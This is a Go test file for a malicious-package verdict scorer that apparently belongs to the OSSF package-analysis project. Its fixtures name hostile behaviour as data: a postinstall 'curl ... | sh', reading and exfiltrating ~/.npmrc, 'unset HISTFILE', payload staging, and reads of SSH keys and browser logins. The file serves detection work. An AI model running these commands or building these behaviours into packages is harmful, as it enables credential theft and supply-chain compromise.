@@ -0,0 +1,920 @@
+package verdict
+
+import (
+	"errors"
+	"go/ast"
+	"go/constant"
+	"go/parser"
+	gotoken "go/token"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/ossf/package-analysis/internal/analysis"
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
+	staticapi "github.com/ossf/package-analysis/pkg/api/staticanalysis"
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis/token"
+)
+
+func TestScore(t *testing.T) {
+	benignStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{Filename: "index.js", NetworkRequests: []staticapi.NetworkRequest{{API: "fetch", URL: "https://example.com/", URLSource: "static"}}},
+		},
+	}
+	suspiciousStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{
+				Filename:              "index.js",
+				IndirectEvals:         []staticapi.IndirectEval{{Target: "eval", Callee: "(0, eval)"}},
+				SuspiciousIdentifiers: []staticapi.SuspiciousIdentifier{{Name: "_0x1a2b", Rule: "hex"}},
+			},
+		},
+	}
+	maliciousDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				Canaries: []analysisrun.CanaryResult{{Path: "/root/.npmrc", Read: true, Exfiltrated: true}},
+				Sockets:  []analysisrun.SocketResult{{Family: "AF_INET", Address: "203.0.113.5", Port: 443}},
+				Commands: []analysisrun.CommandResult{{Command: []string{"sh", "-c", "cat /root/.npmrc"}}},
+			},
+		},
+	}
+	daemonDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				LingeringProcesses: []analysisrun.LingeringProcessResult{{Command: []string{"node", "miner.js"}, Daemonized: true}},
+			},
+		},
+	}
+	exitStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{Filename: "index.js", EarlyExits: []staticapi.EarlyExit{{Function: "process.exit"}}},
+		},
+	}
+	remoteScriptStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{
+				Filename: "package.json",
+				ConfigCommands: []staticapi.ConfigCommand{
+					{Key: "scripts.test", Command: "mocha"},
+					{Key: "scripts.postinstall", Command: "curl -s https://example.com/x.sh | sh", RemoteExecution: true},
+				},
+			},
+		},
+	}
+	timingCheckStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename: "index.js",
+			TimingChecks: []staticapi.TimingCheck{
+				{API: "Date.now", StartPos: token.Position{2, 18}, EndPos: token.Position{3, 8}, GatedLength: 32, Pos: token.Position{3, 8}},
+			},
+		}},
+	}
+	shadowingStatic := &staticapi.Results{
+		Manifest: &staticapi.ManifestResult{
+			Bins:             []staticapi.DeclaredBin{{Name: "git", Path: "cli.js"}, {Name: "ls", Path: "cli.js"}},
+			ShadowedCommands: []string{"git", "ls"},
+		},
+	}
+	packedStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{
+				Filename:   "index.js",
+				PackedCode: []staticapi.PackedCode{{Confidence: "high", Indicators: []string{"eval", "string_building"}}},
+			},
+			{
+				Filename:   "vendor.js",
+				PackedCode: []staticapi.PackedCode{{Confidence: "low", Indicators: []string{"eval"}}},
+			},
+		},
+	}
+	workerStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{
+				Filename: "index.js",
+				ThreadUsages: []staticapi.ThreadUsage{
+					{Type: "worker", API: "Worker", WorkerSource: "dynamic"},
+					{Type: "shared_memory", API: "Atomics.wait"},
+				},
+			},
+			{
+				Filename:     "pool.js",
+				ThreadUsages: []staticapi.ThreadUsage{{Type: "worker", API: "Worker", WorkerSource: "file"}},
+			},
+		},
+	}
+	decodedExecutionStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename: "index.js",
+			DecodedExecutions: []staticapi.DecodedExecution{
+				{Sink: "eval", Decoder: "atob", Encoding: "base64", DecodePos: token.Position{1, 5}, Pos: token.Position{1, 0}},
+			},
+		}},
+	}
+	outsideImportStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename: "index.js",
+			OutsideImports: []staticapi.OutsideImport{
+				{Module: "../other-package/secrets.js", Pos: token.Position{2, 0}},
+			},
+		}},
+	}
+	nativeAddonStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename: "index.js",
+			NativeAddonLoads: []staticapi.NativeAddonLoad{
+				{Type: "dlopen", Library: "/tmp/.x/lib.so", Pos: token.Position{3, 0}},
+			},
+		}},
+	}
+	binaryPayloadStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename: "install.js",
+			BinaryPayloads: []staticapi.BinaryPayload{
+				{Constructor: "Uint8Array", Size: 80, Sink: "fs.writeFileSync", Pos: token.Position{1, 11}},
+				{Constructor: "Uint8Array", Size: 1024, Pos: token.Position{5, 14}},
+			},
+		}},
+	}
+	nativeLoadDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseImport: {
+				NativeLibraryLoads: []analysisrun.NativeLibraryLoadResult{
+					{Path: "/tmp/.x/lib.so", Written: true, Command: []string{"node", "index.js"}},
+				},
+			},
+		},
+	}
+	reconDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				ReconExfiltration: []analysisrun.ReconExfiltrationResult{
+					{Tool: "whoami", Command: []string{"whoami"}, Destinations: []analysisrun.SocketResult{
+						{Family: "AF_INET", Address: "1.2.3.4", Port: 443, Hostnames: []string{"evil.example.com"}},
+					}},
+				},
+			},
+		},
+	}
+	sourceDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				SourceExfiltration: []analysisrun.SourceExfiltrationResult{
+					{Kind: analysisrun.SourceExfiltrationGit, Root: "/root/project/.git", Files: 40, Destinations: []analysisrun.SocketResult{
+						{Family: "AF_INET", Address: "1.2.3.4", Port: 443},
+					}},
+				},
+			},
+		},
+	}
+	directIPDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				DirectIPConnections: []analysisrun.SocketResult{
+					{Family: "AF_INET", Address: "1.2.3.4", Port: 4444},
+				},
+			},
+		},
+	}
+	tamperingDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				SecurityTampering: []analysisrun.SecurityTamperingResult{
+					{Rule: "shell_history", Command: []string{"sh", "-c", "unset HISTFILE"}},
+				},
+			},
+		},
+	}
+	stagerDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				StagedExecutions: []analysisrun.StagedExecutionResult{
+					{Path: "/tmp/payload", Writer: []string{"curl", "-o", "/tmp/payload"}, Command: []string{"/tmp/payload"}},
+				},
+			},
+		},
+	}
+	outsideLoadDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseImport: {
+				LoadedModules: []analysisrun.LoadedModuleResult{
+					{Name: "./lib", Path: "/app/node_modules/foo/lib.js", FromPackage: true},
+					{Name: "../other-package/secrets.js", Path: "/app/node_modules/other-package/secrets.js", FromPackage: true, OutsidePackage: true},
+				},
+			},
+		},
+	}
+	inputCaptureStatic := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{
+				Filename: "form.js",
+				InputCaptures: []staticapi.InputCapture{
+					{Type: "listener", API: "input.addEventListener", Event: "change"},
+				},
+			},
+			{
+				Filename: "skimmer.js",
+				InputCaptures: []staticapi.InputCapture{
+					{Type: "listener", API: "document.addEventListener", Event: "keydown", NetworkSend: true},
+					{Type: "form_access", API: `document.querySelector("#cvv")`, NetworkSend: true},
+				},
+			},
+		},
+	}
+	exitDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				Termination: analysisrun.TerminationResult{Reason: analysisrun.TerminationCompleted},
+			},
+			analysisrun.DynamicPhaseImport: {
+				Termination: analysisrun.TerminationResult{Reason: analysisrun.TerminationExit},
+			},
+		},
+	}
+
+	linkDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				Links: []analysisrun.LinkResult{
+					{Path: "/app/node_modules/.bin/evil", Target: "../evil/cli.js"},
+					{Path: "/app/node_modules/evil/config", Target: "/etc", OutsidePackage: true},
+				},
+			},
+		},
+	}
+
+	snoopingDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseImport: {
+				FileReads: analysisrun.FileReadResult{
+					Directories:    40,
+					SensitiveReads: []analysisrun.SensitiveReadResult{{Directory: "/etc", Files: 30}},
+				},
+				BroadFileReads: true,
+			},
+		},
+	}
+
+	wormDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				ModuleWrites: []analysisrun.ModuleWriteResult{
+					{Path: "/app/node_modules/lodash/index.js", Kind: analysisrun.ModuleWriteNodeModules, Command: []string{"node", "install.js"}},
+				},
+			},
+		},
+	}
+	publishDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				RegistryPublishes: []analysisrun.RegistryPublishResult{
+					{Registry: "registry.npmjs.org", Action: "npm publish", Command: []string{"npm", "publish"}},
+				},
+			},
+		},
+	}
+	takeoverDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				RegistryPublishes: []analysisrun.RegistryPublishResult{
+					{Registry: "registry.npmjs.org", Action: "npm publish", Command: []string{"npm", "publish"}, Connected: true},
+				},
+				RegistryCredentialReads: []string{"/root/.npmrc"},
+				RegistryTakeover:        true,
+			},
+		},
+	}
+	infostealerDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				CredentialStoreReads: []analysisrun.CredentialStoreReadResult{
+					{Store: "chrome", Paths: []string{"/root/.config/google-chrome/Default/Login Data"}},
+					{Store: "ssh", Paths: []string{"/root/.ssh/id_rsa"}},
+				},
+			},
+		},
+	}
+	pathHijackDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				ShellProfileWrites: []analysisrun.ShellProfileWriteResult{
+					{Path: "/root/.bashrc", Command: []string{"node", "install.js"}},
+				},
+				PathModifications: []analysisrun.PathModificationResult{
+					{Directory: "/tmp/bin", Command: []string{"git", "status"}, Written: []string{"/tmp/bin/git"}},
+					{Directory: "/app/bin", Command: []string{"sh", "-c", "setup"}},
+				},
+				PathHijack: true,
+			},
+		},
+	}
+	dropperDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				ExecutableDrops: []analysisrun.ExecutableDropResult{
+					{Path: "/tmp/.x/miner", Format: analysisrun.ExecutableELF, MadeExecutable: true, Command: []string{"node", "install.js"}},
+					{Path: "/tmp/payload.exe", Format: analysisrun.ExecutablePE, Command: []string{"node", "install.js"}},
+				},
+			},
+		},
+	}
+	pathModificationDynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				PathModifications: []analysisrun.PathModificationResult{
+					{Directory: "/app/bin", Command: []string{"sh", "-c", "setup"}},
+				},
+			},
+		},
+	}
+
+	tests := []struct {
+		name      string
+		static    *staticapi.Results
+		dynamic   *analysisrun.DynamicAnalysisData
+		opts      []Option
+		wantLabel Label
+		wantScore float64
+		wantRules []string
+	}{
+		{
+			name:      "no results",
+			wantLabel: Benign,
+			wantRules: []string{},
+		},
+		{
+			name:      "static URL",
+			static:    benignStatic,
+			wantLabel: Benign,
+			wantRules: []string{},
+		},
+		{
+			name:      "eval and obfuscation",
+			static:    suspiciousStatic,
+			wantLabel: Suspicious,
+			wantScore: 4,
+			wantRules: []string{RuleIndirectEval, RuleObfuscation},
+		},
+		{
+			name:      "exfiltrated credentials",
+			static:    suspiciousStatic,
+			dynamic:   maliciousDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 15.25,
+			wantRules: []string{RuleCanaryExfiltrated, RuleIndirectEval, RuleObfuscation, RuleNetworkActivity, RuleCommand},
+		},
+		{
+			name:      "daemon left running",
+			dynamic:   daemonDynamic,
+			wantLabel: Suspicious,
+			wantScore: 4,
+			wantRules: []string{RuleDaemonProcess},
+		},
+		{
+			name:      "early exit",
+			static:    exitStatic,
+			dynamic:   exitDynamic,
+			wantLabel: Benign,
+			wantScore: 1.5,
+			wantRules: []string{RuleAbruptTermination, RuleEarlyExit},
+		},
+		{
+			name:      "remote script",
+			static:    remoteScriptStatic,
+			wantLabel: Suspicious,
+			wantScore: 5,
+			wantRules: []string{RuleRemoteScript},
+		},
+		{
+			name:      "input capture",
+			static:    inputCaptureStatic,
+			wantLabel: Suspicious,
+			wantScore: 3,
+			wantRules: []string{RuleInputCapture},
+		},
+		{
+			name:      "timing check",
+			static:    timingCheckStatic,
+			wantLabel: Benign,
+			wantScore: 2,
+			wantRules: []string{RuleTimingCheck},
+		},
+		{
+			name:      "shadowed commands",
+			static:    shadowingStatic,
+			wantLabel: Suspicious,
+			wantScore: 4,
+			wantRules: []string{RuleShadowedCommand},
+		},
+		{
+			name:      "packed code",
+			static:    packedStatic,
+			wantLabel: Suspicious,
+			wantScore: 4,
+			wantRules: []string{RulePackedCode},
+		},
+		{
+			name:      "worker code",
+			static:    workerStatic,
+			wantLabel: Benign,
+			wantScore: 2,
+			wantRules: []string{RuleWorkerCode},
+		},
+		{
+			name:      "decoded execution",
+			static:    decodedExecutionStatic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleDecodedExecution},
+		},
+		{
+			name:      "outside package import",
+			static:    outsideImportStatic,
+			dynamic:   outsideLoadDynamic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleOutsidePackageLoad, RuleOutsideImport},
+		},
+		{
+			name:      "binary payload",
+			static:    binaryPayloadStatic,
+			wantLabel: Suspicious,
+			wantScore: 6,
+			wantRules: []string{RuleBinaryPayload},
+		},
+		{
+			name:      "native addon",
+			static:    nativeAddonStatic,
+			dynamic:   nativeLoadDynamic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleNativeLibraryLoad, RuleNativeAddon},
+		},
+		{
+			name:      "link outside package",
+			dynamic:   linkDynamic,
+			wantLabel: Suspicious,
+			wantScore: 3,
+			wantRules: []string{RuleLinkOutsidePackage},
+		},
+		{
+			name:      "broad file reads",
+			dynamic:   snoopingDynamic,
+			wantLabel: Suspicious,
+			wantScore: 3,
+			wantRules: []string{RuleBroadFileReads},
+		},
+		{
+			name:      "module write",
+			dynamic:   wormDynamic,
+			wantLabel: Suspicious,
+			wantScore: 6,
+			wantRules: []string{RuleModuleWrite},
+		},
+		{
+			name:      "registry publish",
+			dynamic:   publishDynamic,
+			wantLabel: Suspicious,
+			wantScore: 4,
+			wantRules: []string{RuleRegistryPublish},
+		},
+		{
+			name:      "registry takeover",
+			dynamic:   takeoverDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 14,
+			wantRules: []string{RuleRegistryTakeover, RuleRegistryPublish},
+		},
+		{
+			name:      "credential store reads",
+			dynamic:   infostealerDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 10,
+			wantRules: []string{RuleCredentialStoreRead},
+		},
+		{
+			name:      "path hijack",
+			dynamic:   pathHijackDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 17,
+			wantRules: []string{RulePathHijack, RuleShellProfileWrite, RulePathModification},
+		},
+		{
+			name:      "dropped executables",
+			dynamic:   dropperDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 13,
+			wantRules: []string{RuleArmedExecutable, RuleExecutableDrop},
+		},
+		{
+			name:      "recon exfiltration",
+			dynamic:   reconDynamic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleReconExfiltration},
+		},
+		{
+			name:      "source exfiltration",
+			dynamic:   sourceDynamic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleSourceExfiltration},
+		},
+		{
+			name:      "direct IP connection",
+			dynamic:   directIPDynamic,
+			wantLabel: Suspicious,
+			wantScore: 3,
+			wantRules: []string{RuleDirectIPConnection},
+		},
+		{
+			name:      "security tampering",
+			dynamic:   tamperingDynamic,
+			wantLabel: LikelyMalicious,
+			wantScore: 10,
+			wantRules: []string{RuleSecurityTampering},
+		},
+		{
+			name:      "staged execution",
+			dynamic:   stagerDynamic,
+			wantLabel: Suspicious,
+			wantScore: 8,
+			wantRules: []string{RuleStagedExecution},
+		},
+		{
+			name:      "path modification",
+			dynamic:   pathModificationDynamic,
+			wantLabel: Benign,
+			wantScore: 1,
+			wantRules: []string{RulePathModification},
+		},
+		{
+			name:      "configured weights",
+			static:    suspiciousStatic,
+			opts:      []Option{Weights(map[string]float64{RuleObfuscation: 0, RuleIndirectEval: 1})},
+			wantLabel: Benign,
+			wantScore: 1,
+			wantRules: []string{RuleIndirectEval},
+		},
+		{
+			name:      "configured thresholds",
+			static:    suspiciousStatic,
+			opts:      []Option{Thresholds(1, 4)},
+			wantLabel: LikelyMalicious,
+			wantScore: 4,
+			wantRules: []string{RuleIndirectEval, RuleObfuscation},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := New(tt.opts...).Score(tt.static, tt.dynamic)
+			rules := []string{}
+			for _, c := range got.Contributions {
+				rules = append(rules, c.Rule)
+			}
+			if got.Label != tt.wantLabel || got.Score != tt.wantScore || !reflect.DeepEqual(rules, tt.wantRules) {
+				t.Errorf("Score() = %v (%v) with rules %v, want %v (%v) with rules %v",
+					got.Label, got.Score, rules, tt.wantLabel, tt.wantScore, tt.wantRules)
+			}
+		})
+	}
+}
+
+func TestScoreBenignInstall(t *testing.T) {
+	harness := func(phase string) []analysisrun.CommandResult {
+		return []analysisrun.CommandResult{
+			{Command: []string{"/usr/local/bin/analyze-node.js", "--package", "foo", "--phase", phase}},
+			{Command: []string{"node", "/usr/local/bin/analyze-node.js", "--package", "foo", "--phase", phase}},
+		}
+	}
+	dynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				Status: analysis.StatusCompleted,
+				Files: []analysisrun.FileResult{
+					{Path: "/app/package.json", Read: true, Write: true},
+					{Path: "/app/node_modules/foo/index.js", Write: true},
+					{Path: "/root/.npm/_cacache/index-v5/1f/2e/abc", Read: true, Write: true},
+					{Path: "/root/.npm/_logs/2024-01-01T00_00_00_000Z-debug-0.log", Write: true},
+					{Path: "/tmp/npm-1-abc/package.tgz", Write: true},
+					{Path: "/execution.log", Write: true},
+					{Path: "/module-loads.log", Write: true},
+				},
+				Sockets: []analysisrun.SocketResult{
+					{Family: analysisrun.FamilyInet, Address: "10.0.2.3", Port: 53},
+					{Family: analysisrun.FamilyInet, Address: "104.16.1.35", Port: 443, Hostnames: []string{"registry.npmjs.org"}, ServerNames: []string{"registry.npmjs.org"}},
+				},
+				Commands: append(harness("install"),
+					analysisrun.CommandResult{Command: []string{"npm", "init", "--force"}},
+					analysisrun.CommandResult{Command: []string{"node", "/usr/local/lib/node_modules/npm/bin/npm-cli.js", "install", "foo"}},
+				),
+				DNS: []analysisrun.DNSResult{{Class: "IN", Queries: []analysisrun.DNSQueries{{Hostname: "registry.npmjs.org", Types: []string{"A"}}}}},
+			},
+			analysisrun.DynamicPhaseImport: {
+				Status:   analysis.StatusCompleted,
+				Files:    []analysisrun.FileResult{{Path: "/app/node_modules/foo/index.js", Read: true}, {Path: "/module-loads.log", Write: true}},
+				Commands: harness("import"),
+			},
+			analysisrun.DynamicPhaseExecute: {
+				Status:   analysis.StatusCompleted,
+				Files:    []analysisrun.FileResult{{Path: "/execution.log", Write: true}},
+				Commands: harness("execute"),
+			},
+		},
+	}
+
+	got := New().Score(nil, dynamic)
+	if got.Label != Benign || got.Score != 0 {
+		t.Errorf("Score() = %v (%v) with contributions %+v, want %v (0)", got.Label, got.Score, got.Contributions, Benign)
+	}
+}
+
+func TestScoreNativeAddon(t *testing.T) {
+	// bcrypt loads the addon built by node-gyp from each of its entry points, and
+	// in each phase of dynamic analysis
+	static := &staticapi.Results{Files: []staticapi.FileResult{
+		{Filename: "bcrypt.js", NativeAddonLoads: []staticapi.NativeAddonLoad{{Type: "loader", Library: "node-gyp-build"}}},
+		{Filename: "promises.js", NativeAddonLoads: []staticapi.NativeAddonLoad{{Type: "require", Library: "./build/Release/bcrypt_lib.node"}}},
+		{Filename: "binding.js", NativeAddonLoads: []staticapi.NativeAddonLoad{{Type: "require", Library: "./lib/binding/napi-v3/bcrypt_lib.node"}}},
+	}}
+	loads := []analysisrun.NativeLibraryLoadResult{{Path: "/tmp/bcrypt/libbcrypt.so", Written: true, Command: []string{"node", "index.js"}}}
+	dynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {Status: analysis.StatusCompleted, NativeLibraryLoads: loads},
+			analysisrun.DynamicPhaseImport:  {Status: analysis.StatusCompleted, NativeLibraryLoads: loads},
+			analysisrun.DynamicPhaseExecute: {Status: analysis.StatusCompleted, NativeLibraryLoads: loads},
+		},
+	}
+
+	got := New().Score(static, dynamic)
+	if want := DefaultWeights()[RuleNativeAddon] + DefaultWeights()[RuleNativeLibraryLoad]; got.Score != want {
+		t.Errorf("Score() = %v (%v) with contributions %+v, want %v", got.Label, got.Score, got.Contributions, want)
+	}
+	if got.Label == LikelyMalicious {
+		t.Errorf("Score() = %v (%v) with contributions %+v, want below %v", got.Label, got.Score, got.Contributions, LikelyMalicious)
+	}
+}
+
+func TestScoreReverseShell(t *testing.T) {
+	score := func(shell staticapi.ReverseShell) Verdict {
+		return New().Score(&staticapi.Results{Files: []staticapi.FileResult{
+			{Filename: "index.js", ReverseShells: []staticapi.ReverseShell{shell}},
+		}}, nil)
+	}
+
+	if got := score(staticapi.ReverseShell{Shell: "sh", SocketCallee: "net.Socket", SocketWired: true}); got.Label != LikelyMalicious {
+		t.Errorf("Score() of a reverse shell wired to its socket = %v (%v), want %v", got.Label, got.Score, LikelyMalicious)
+	}
+	// the shell is not known to be connected to the socket
+	got := score(staticapi.ReverseShell{Shell: "sh", SocketCallee: "net.connect"})
+	if got.Label != Suspicious || len(got.Contributions) != 1 || got.Contributions[0].Rule != RulePossibleReverseShell {
+		t.Errorf("Score() of a possible reverse shell = %v (%v) with contributions %+v, want %v from %s", got.Label, got.Score, got.Contributions, Suspicious, RulePossibleReverseShell)
+	}
+}
+
+func TestScoreContributions(t *testing.T) {
+	var files []staticapi.FileResult
+	for _, name := range []string{"a.js", "b.js", "c.js", "d.js", "e.js", "f.js", "g.js"} {
+		files = append(files, staticapi.FileResult{
+			Filename:      name,
+			IndirectEvals: []staticapi.IndirectEval{{Target: "eval", Callee: "window.eval"}},
+		})
+	}
+
+	got := New().Score(&staticapi.Results{Files: files}, nil)
+	want := Verdict{
+		Label: LikelyMalicious,
+		Score: 10,
+		Contributions: []Contribution{
+			{
+				Rule:     RuleIndirectEval,
+				Category: staticapi.CategoryObfuscation,
+				Weight:   2,
+				Count:    7,
+				Score:    10, // capped at MaxCount occurrences
+				Examples: []string{"a.js: window.eval", "b.js: window.eval", "c.js: window.eval"},
+			},
+		},
+		Completeness: analysisrun.Completeness{Complete: true, Limits: []string{}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Score() = %+v, want %+v", got, want)
+	}
+}
+
+func TestScoreCompleteness(t *testing.T) {
+	timedOutStatic := &staticapi.Results{Files: []staticapi.FileResult{{Filename: "big.js", TimedOut: true}}}
+	suspiciousStatic := &staticapi.Results{Files: []staticapi.FileResult{
+		{Filename: "big.js", TimedOut: true},
+		{Filename: "index.js", IndirectEvals: []staticapi.IndirectEval{{Target: "eval", Callee: "window.eval"}, {Target: "eval", Callee: "global.eval"}}},
+	}}
+	dynamic := func(s analysisrun.StraceSummary) *analysisrun.DynamicAnalysisData {
+		return &analysisrun.DynamicAnalysisData{StraceSummary: analysisrun.DynamicAnalysisStraceSummary{analysisrun.DynamicPhaseInstall: &s}}
+	}
+
+	tests := []struct {
+		name         string
+		static       *staticapi.Results
+		dynamic      *analysisrun.DynamicAnalysisData
+		addLimits    []string
+		wantLabel    Label
+		wantComplete bool
+		wantLimits   []string
+	}{
+		{
+			name:         "complete",
+			static:       &staticapi.Results{Files: []staticapi.FileResult{{Filename: "index.js"}}},
+			dynamic:      dynamic(analysisrun.StraceSummary{Status: analysis.StatusCompleted}),
+			wantLabel:    Benign,
+			wantComplete: true,
+			wantLimits:   []string{},
+		},
+		{
+			name:       "static timeout",
+			static:     timedOutStatic,
+			wantLabel:  Inconclusive,
+			wantLimits: []string{analysisrun.LimitStaticFileTimeout},
+		},
+		{
+			name:       "static scope",
+			static:     &staticapi.Results{Files: []staticapi.FileResult{{Filename: "index.js"}}, AnalysisLimits: []string{analysisrun.LimitStaticScope}},
+			wantLabel:  Inconclusive,
+			wantLimits: []string{analysisrun.LimitStaticScope},
+		},
+		{
+			name:       "dynamic error",
+			dynamic:    dynamic(analysisrun.StraceSummary{Status: analysis.StatusErrorOther}),
+			wantLabel:  Inconclusive,
+			wantLimits: []string{analysisrun.LimitDynamicError},
+		},
+		{
+			name:       "dynamic timeout",
+			dynamic:    dynamic(analysisrun.StraceSummary{Status: analysis.StatusErrorTimeout, StraceLogTruncated: true}),
+			wantLabel:  Inconclusive,
+			wantLimits: []string{analysisrun.LimitStraceLogTruncated, analysisrun.LimitDynamicTimeout},
+		},
+		{
+			name:         "strace log truncated",
+			dynamic:      dynamic(analysisrun.StraceSummary{Status: analysis.StatusCompleted, StraceLogTruncated: true}),
+			wantLabel:    Benign,
+			wantComplete: true,
+			wantLimits:   []string{analysisrun.LimitStraceLogTruncated},
+		},
+		{
+			name:       "dynamic skipped",
+			static:     &staticapi.Results{},
+			addLimits:  []string{analysisrun.LimitDynamicSkipped},
+			wantLabel:  Inconclusive,
+			wantLimits: []string{analysisrun.LimitDynamicSkipped},
+		},
+		{
+			name:       "suspicious despite timeout",
+			static:     suspiciousStatic,
+			wantLabel:  Suspicious,
+			wantLimits: []string{analysisrun.LimitStaticFileTimeout},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := New().Score(tt.static, tt.dynamic)
+			got.AddLimits(tt.addLimits...)
+			if got.Label != tt.wantLabel || !reflect.DeepEqual(got.Completeness.Limits, tt.wantLimits) {
+				t.Errorf("Score() = %v with limits %v, want %v with limits %v",
+					got.Label, got.Completeness.Limits, tt.wantLabel, tt.wantLimits)
+			}
+			if got.Completeness.Complete != tt.wantComplete {
+				t.Errorf("Score() Complete = %v, want %v", got.Completeness.Complete, tt.wantComplete)
+			}
+		})
+	}
+}
+
+func TestInCategory(t *testing.T) {
+	static := &staticapi.Results{
+		Files: []staticapi.FileResult{{
+			Filename:          "index.js",
+			IndirectEvals:     []staticapi.IndirectEval{{Target: "eval", Callee: "window.eval"}},
+			ClipboardAccesses: []staticapi.ClipboardAccess{{API: "navigator.clipboard.readText"}},
+		}},
+	}
+	dynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				CredentialStoreReads: []analysisrun.CredentialStoreReadResult{{Store: "ssh", Paths: []string{"/root/.ssh/id_rsa"}}},
+			},
+		},
+	}
+
+	v := New().Score(static, dynamic)
+	var got []string
+	for _, c := range v.InCategory(staticapi.CategoryCredentialTheft) {
+		got = append(got, c.Rule)
+	}
+	if want := []string{RuleCredentialStoreRead, RuleClipboardAccess}; !reflect.DeepEqual(got, want) {
+		t.Errorf("InCategory(%q) rules = %v, want %v", staticapi.CategoryCredentialTheft, got, want)
+	}
+	if got := v.InCategory(staticapi.CategoryNetwork); len(got) != 0 {
+		t.Errorf("InCategory(%q) = %+v, want none", staticapi.CategoryNetwork, got)
+	}
+}
+
+// builtinRules returns the values of the Rule constants declared in rules.go, so
+// that rules added there are checked without being listed again in the tests.
+func builtinRules(t *testing.T) []string {
+	t.Helper()
+	f, err := parser.ParseFile(gotoken.NewFileSet(), "rules.go", nil, 0)
+	if err != nil {
+		t.Fatalf("failed to parse rules.go: %v", err)
+	}
+	var rules []string
+	for _, decl := range f.Decls {
+		gen, ok := decl.(*ast.GenDecl)
+		if !ok || gen.Tok != gotoken.CONST {
+			continue
+		}
+		for _, spec := range gen.Specs {
+			vs := spec.(*ast.ValueSpec)
+			for i, name := range vs.Names {
+				if !strings.HasPrefix(name.Name, "Rule") {
+					continue
+				}
